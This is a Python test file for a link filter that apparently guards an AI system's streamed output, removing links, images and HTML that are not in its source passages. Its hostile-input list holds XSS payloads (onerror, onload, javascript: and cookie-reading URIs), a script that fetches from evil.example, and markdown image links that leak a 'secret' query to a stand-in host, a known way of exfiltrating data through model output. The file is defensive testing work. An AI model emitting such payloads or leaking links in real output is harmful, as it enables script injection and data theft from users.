"""Tests of the link filter."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mindset.guardrails.links import REMOVED, LinkFilter

ALLOWED = "https://docs.example.org/rollback"
PASSAGES = [
    f'See [how to roll back]({ALLOWED}) or https://docs.example.org/other?a=1&amp;b=2, and `<b class="x">` or `<title>`.',
    "Write to help@docs.example.org, look at ../guides/a.md, and run `npm i left@1.2.3`.",
]


def filtered(*pieces: str) -> tuple[str, set[str]]:
    links = LinkFilter(PASSAGES)
    return "".join([*map(links.feed, pieces), links.finish()]), links.broken_rules


HOSTILE = [
    "See [this](https://evil.example/x).",
    'See [this](http://evil.example/x "title").',
    "See [this](<https://evil.example/x>).",
    "See [this](//evil.example/x).",
    "See [this]( https://evil.example/x ).",
    "See [this](/\\evil.example/x).",
    "See [this](\\\\evil.example\\x).",
    "See [this](../evil.example/x).",
    "![logo](https://evil.example/pixel.png?q=secret)",
    f"![logo]({ALLOWED})",
    f"![logo]({ALLOWED}?q=secret)",
    "[![logo](https://evil.example/p.png)](https://evil.example)",
    "Go to https://evil.example/x now",
    "Go to HTTPS://EVIL.EXAMPLE/x now",
    "Go to https:evil.example/x now",
    "Go to www.evil.example/x now",
    "Go to ftp://evil.example/x now",
    "Go to //evil.example/x now",
    "Go to evil.example/x now",
    "Go to evil.com now",
    "Go to ev\u200bil.example/x now",
    "Write to bob@evil.example now",
    "mailto:bob@evil.example",
    "<https://evil.example/x>",
    "<bob@evil.example>",
    "<a href='https://evil.example/x'>here</a>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div style='background:url(//evil.example/x)'>a</div>",
    "<p onclick=alert(1)>a</p>",
    "<script>fetch('https://evil.example')</script>",
    "<iframe src='//evil.example'></iframe>",
    "<!-- https://evil.example/x -->",
    "[a]: https://evil.example/x\n\n[see][a]",
    "![a][b]\n\n[b]: //evil.example/x",
    "[x](javascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "javascript:alert(document.cookie)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "[x](&#104;ttps://evil.example)",
    "https&colon;//evil.example/x",
    "[x](https:\\\\evil.example)",
    f"{ALLOWED}@evil.example/x is where",
    f"{ALLOWED}.evil.example/x is where",
    f"{ALLOWED}?q=secret",
    f'{ALLOWED}"secret',
    f"{ALLOWED}`secret",
    f"{ALLOWED}(secret)",
    "https://docs.example.org.evil.example/x",
    "https://docs.example.or",
    "[a [b] c](https://evil.example/x)",
    "(https://evil.example/x)",
    "**https://evil.example/x**",
    "`https://evil.example/x`",
    '{"url":"https://evil.example/x"}',
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_links_images_and_tags_that_are_not_in_the_passages_are_removed(hostile: str) -> None:
    text, broken = filtered(hostile)
    assert broken
    assert not re.search(r"evil\.(?:example|com)|secret|docs\.example\.or\b", text, re.IGNORECASE)
    assert not re.search(r"!\[|\]\(|<(?:a|img|script|iframe|svg|div|p)\b|javascript:|data:", text, re.IGNORECASE)


@pytest.mark.parametrize(
    "harmless",
    [
        f"It is at {ALLOWED}, and [here]({ALLOWED}) (see https://docs.example.org/other?a=1&b=2).",
        "At https://docs.example.org/ or docs.example.org/rollback, or help@docs.example.org.",
        "See [the guide](../guides/a.md) and <https://docs.example.org/rollback>.",
        "Run `mindset rollback docs` [1] and see [2][3].",
        "Ratios: 1:2, a < b, x > y, List<String>, <name>, 10:30 o'clock, key: value; a/b, and/or, C:\\data.",
        "An array a[0], a range [1-3], [x] done, a note [sic], and f[x](y).",
        "data: the word, and javascript: the language; `left@1.2.3`, README.md, settings.py, node.js, v1.2.3.",
        'Set `<b class="x">` and `<title>`, e.g. `std::vector<int>` or def f(a: int) -> dict[str, int]: ...',
    ],
)
def test_harmless_text_is_not_changed(harmless: str) -> None:
    assert filtered(harmless) == (harmless, set())


def test_prose_is_not_held_back() -> None:
    links = LinkFilter(PASSAGES)
    assert [links.feed(piece) for piece in ("Owls", " hoot", " at night", ".", " So")] == [
        "Owls",
        " hoot",
        " at night",
        "",
        ". So",
    ]
    assert links.feed(" htt") == " "
    assert links.feed("er") == "htter"


def test_image_markup_is_broken_up_and_exclamation_mark_is_kept() -> None:
    assert filtered("Wow![1]")[0] == "Wow! [1]"
    assert filtered("![a logo](https://evil.example/x) it is")[0] == f"! [a logo] {REMOVED} it is"


TEXTS = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "<", ">", " ", "\n", "a", "1", "htt", "ps://", "https://", "evil", ".example", "evil.example",
         "/x", ALLOWED, "www.", "//", ":", "javascript:", "data:a,", "a href=", "img ", ".", "[1]", "](", "words of it ", "@",
         "\\", "&#104;", "&", "\u200b", "-", "x" * 1_000, "【", "】", '"', "'", "`"]
    ),
    max_size=24,
).map("".join)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 4_000), max_size=8))
@example("x" * 1_995 + "https://evil.example/x", [1_995])
def test_result_does_not_depend_on_the_pieces(text: str, positions: list[int]) -> None:
    cuts = [0, *sorted(min(position, len(text)) for position in positions), len(text)]
    assert filtered(*(text[start:end] for start, end in pairwise(cuts))) == filtered(text)
    assert filtered(*text) == filtered(text)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_filtering_is_idempotent(text: str) -> None:
    once, _ = filtered(text)
    twice, broken = filtered(once)
    assert ("".join(twice.split()), broken) == ("".join(once.split()), set())


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_output_contains_no_foreign_link(text: str) -> None:
    output, _ = filtered(text)
    links = re.findall(r"(?:https?:[/\\]*|(?<!\w)www\.|(?<![\w:/])//+)[\w-]+\.\w[^\s<\[\]]*", output, re.IGNORECASE)
    assert all(link.startswith("https://docs.example.org/") for link in links)
    assert not re.search(r"!\[|\bjavascript:\S|<img\b[^<>]*=[^<>]*>", output)
